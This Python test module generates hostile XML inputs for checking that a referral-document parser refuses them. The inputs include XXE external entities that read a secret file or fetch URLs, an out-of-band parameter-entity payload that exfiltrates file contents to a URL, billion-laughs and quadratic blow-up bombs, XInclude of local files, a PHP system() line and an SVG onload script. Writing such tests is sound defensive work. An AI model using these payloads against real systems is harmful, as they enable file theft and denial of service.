"""Documents that declare a type, entities or catalogues, or point to other files and machines."""
from attack import MARK, accept, refuse
from grafting import Graft
from material import FORMS

DOCTYPE = "documentTypeDeclaration"


def attacks(material):
    for form in FORMS:
        graft = Graft(material.documents[form])
        for name, text in declarations(graft, material):
            yield refuse("doctype", name, "document", text.encode(), DOCTYPE, form=form)
        for name, text in misplaced(graft):
            yield refuse("doctype", name, "document", text.encode(), DOCTYPE, "notWellFormed", form=form)
        for name, text in lures(graft, material):
            yield accept("lure", name, "document", text.encode(), form=form)
        for name, text in refused_lures(graft, material):
            yield refuse(
                "lure", name, "document", text.encode(), "unexpectedAttribute", "unexpectedElement", "wrongRoot",
                form=form)


def declarations(graft, material):
    root, url, secret = graft.root, material.url, material.secret.as_uri()

    def used(subset, place="&a;"):
        text = graft.content("GivenName", place)
        return Graft(text).before_root(f"<!DOCTYPE {root} [{subset}]>\n")

    def plain(declaration):
        return graft.before_root(declaration + "\n")

    yield "plain", plain(f"<!DOCTYPE {root}>")
    yield "empty-subset", plain(f"<!DOCTYPE {root} []>")
    yield "system-file", plain(f'<!DOCTYPE {root} SYSTEM "{secret}">')
    yield "system-path", plain(f'<!DOCTYPE {root} SYSTEM "{material.secret}">')
    yield "system-relative", plain(f'<!DOCTYPE {root} SYSTEM "secret.dtd">')
    yield "system-network", plain(f'<!DOCTYPE {root} SYSTEM "{url}/a.dtd">')
    yield "public-network", plain(f'<!DOCTYPE {root} PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{url}/b.dtd">')
    yield "system-and-subset", plain(f'<!DOCTYPE {root} SYSTEM "{url}/c.dtd" [<!ENTITY a "b">]>')
    yield "internal-entity", used(f'<!ENTITY a "{MARK}">')
    yield "unused-entity", plain(f'<!DOCTYPE {root} [<!ENTITY a "{MARK}">]>')
    yield "external-entity-file", used(f'<!ENTITY a SYSTEM "{secret}">')
    yield "external-entity-network", used(f'<!ENTITY a SYSTEM "{url}/e">')
    for scheme in ("ftp", "php", "expect", "jar", "netdoc", "gopher", "data", "unknown"):
        address = url.replace("http", scheme) if scheme != "data" else "data:text/plain,x"
        yield f"external-entity-{scheme}", used(f'<!ENTITY a SYSTEM "{address}/x">')
    yield "external-entity-device", used('<!ENTITY a SYSTEM "file:///dev/zero">')
    yield "external-entity-standard-input", used('<!ENTITY a SYSTEM "-">')
    yield "external-entity-in-attribute", Graft(graft.tag("GivenName", 'note="&a;"')).before_root(
        f'<!DOCTYPE {root} [<!ENTITY a SYSTEM "{secret}">]>')
    yield "parameter-entity", plain(f'<!DOCTYPE {root} [<!ENTITY % a "<!ENTITY b \'x\'>"> %a;]>')
    yield "parameter-entity-file", plain(f'<!DOCTYPE {root} [<!ENTITY % a SYSTEM "{secret}"> %a;]>')
    yield "parameter-entity-network", plain(f'<!DOCTYPE {root} [<!ENTITY % a SYSTEM "{url}/p"> %a;]>')
    yield "parameter-entity-out-of-band", plain(
        f'<!DOCTYPE {root} [<!ENTITY % f SYSTEM "{secret}"><!ENTITY % s "<!ENTITY &#37; o SYSTEM \'{url}/?%f;\'>">'
        " %s; %o;]>")
    nested = "".join(
        f"<!ENTITY % p{n} '" + f"&#37;p{n - 1};" * 9 + "'>" for n in range(1, 30))
    yield "nested-parameter-entities", plain(f"<!DOCTYPE {root} [<!ENTITY % p0 ''>{nested} %p29;]>")
    laughs = "".join(f"<!ENTITY l{n} '" + f"&l{n - 1};" * 10 + "'>" for n in range(1, 10))
    yield "billion-laughs", used(f"<!ENTITY l0 'ha'>{laughs}", "&l9;")
    yield "billion-laughs-unused", plain(f"<!DOCTYPE {root} [<!ENTITY l0 'ha'>{laughs}]>")
    yield "billion-laughs-in-default", plain(
        f"<!DOCTYPE {root} [<!ENTITY l0 'ha'>{laughs}<!ATTLIST GivenName note CDATA '&l9;'>]>")
    yield "quadratic-blow-up", used(f"<!ENTITY a '{'a' * 50_000}'>", "&a;" * 20_000)
    yield "recursive-entity", used("<!ENTITY a '&b;'><!ENTITY b '&a;'>")
    yield "entity-for-ampersand", used('<!ENTITY amp "&#38;#60;script&#62;"><!ENTITY a "x">')
    yield "unparsed-entity", plain(
        f'<!DOCTYPE {root} [<!NOTATION n SYSTEM "{url}/n"><!ENTITY a SYSTEM "{secret}" NDATA n>]>')
    yield "default-attribute", plain(f'<!DOCTYPE {root} [<!ATTLIST CRN verdict CDATA "malformed">]>')
    yield "default-namespace", plain(f'<!DOCTYPE {root} [<!ATTLIST {root} xmlns CDATA #FIXED "urn:x">]>')
    yield "element-model", plain(f"<!DOCTYPE {root} [<!ELEMENT {root} EMPTY>]>")
    yield "after-comment", plain(f"<!-- x --><!DOCTYPE {root}>")
    yield "after-instruction", plain(f"<?x y?><!DOCTYPE {root}>")
    yield "over-several-lines", plain(f"<!DOCTYPE\n\t{root}\n[\n<!ENTITY a\n'b'>\n]\n>")
    yield "fifty-thousand-entities", plain(
        f"<!DOCTYPE {root} [{''.join(f'<!ENTITY e{n} {chr(39)}x{chr(39)}>' for n in range(50_000))}]>")
    yield "huge-name", plain(f"<!DOCTYPE {'n' * 1_000_000}>")
    yield "huge-comment-in-subset", plain(f"<!DOCTYPE {root} [<!-- {'x' * 2_000_000} -->]>")
    yield "never-ends", graft.before_root(f"<!DOCTYPE {root} [<!ENTITY a '")
    yield "catalogue-and-doctype", plain(
        f'<?oasis-xml-catalog catalog="{url}/catalog.xml"?><!DOCTYPE {root} SYSTEM "{url}/d.dtd">')


def misplaced(graft):
    yield "small-letters", graft.before_root(f"<!doctype {graft.root}>")
    yield "in-content", graft.in_section(f"<!DOCTYPE {graft.root}>")
    yield "after-the-root", graft.after_root(f"<!DOCTYPE {graft.root}>")
    yield "entity-in-content", graft.in_section("<!ENTITY a 'b'>")
    yield "condition-in-content", graft.in_section("<![INCLUDE[ x ]]>")
    yield "before-the-declaration", f"<!DOCTYPE {graft.root}>" + graft.text
    yield "undeclared-entity", graft.content("GivenName", f"&{MARK};")
    yield "html-entity", graft.content("GivenName", "&nbsp;")


def lures(graft, material):
    url, schema, secret = material.url, material.schema.as_uri(), material.secret.as_uri()
    namespace = "https://referralkit.example/ns/referrals/1.0"
    for name, place in (("file", schema), ("network", f"{url}/s.xsd"), ("path", material.schema)):
        yield f"schema-location-{name}", graft.in_root_tag(f'xsi:schemaLocation="{namespace} {place}"')
        yield f"schema-location-without-namespace-{name}", graft.in_root_tag(
            f'xsi:noNamespaceSchemaLocation="{place}"')
    yield "schema-location-inside", graft.tag("GivenName", f'xsi:schemaLocation="{namespace} {url}/in.xsd"')
    yield "catalogue-network", graft.before_root(f'<?oasis-xml-catalog catalog="{url}/catalog.xml"?>')
    yield "catalogue-file", graft.before_root(f'<?oasis-xml-catalog catalog="{secret}"?>')
    yield "style-sheet", graft.before_root(f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>')
    yield "schema-model", graft.before_root(f'<?xml-model href="{url}/x.rng"?>')
    yield "php", graft.before_root(f"<?php system('touch {secret}'); ?>")


def refused_lures(graft, material):
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{material.secret.as_uri()}" parse="text"'
    yield "include-file", graft.in_section(include + "/>")
    yield "include-network", graft.in_section(include.replace(material.secret.as_uri(), material.url) + "/>")
    yield "include-fallback", graft.in_section(include + "><xi:fallback>x</xi:fallback></xi:include>")
    yield "include-in-text", graft.content("GivenName", include + "/>")
    yield "include-as-root", include.replace("<xi:include", '<?xml version="1.0"?><xi:include') + "/>"
    yield "base", graft.in_root_tag(f'xml:base="{material.url}/"')
    yield "link", graft.tag(
        "GivenName", f'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{material.url}/"')
    yield "schema-as-child", graft.in_section(
        f'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import schemaLocation="{material.url}"/></xs:schema>')
    yield "signature", graft.in_section(
        f'<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><Reference URI="{material.secret.as_uri()}"/></Signature>')
    yield "svg", graft.in_section(
        f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><image href="{material.url}/"/></svg>')
